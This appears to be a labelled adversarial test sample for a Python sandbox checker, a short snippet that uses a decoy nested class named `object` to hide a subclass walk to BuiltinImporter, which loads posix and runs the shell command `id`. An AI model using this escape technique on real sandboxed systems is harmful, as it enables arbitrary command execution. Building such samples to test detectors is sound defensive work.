# HARM: shell via BuiltinImporter | TRICK: class `object` nested in another class body; module-level object is builtin
class Reg:
    class object: pass
for k in object.__subclasses__():
    if k.__name__ == 'BuiltinImporter':
        k.load_module('posix').system('id')
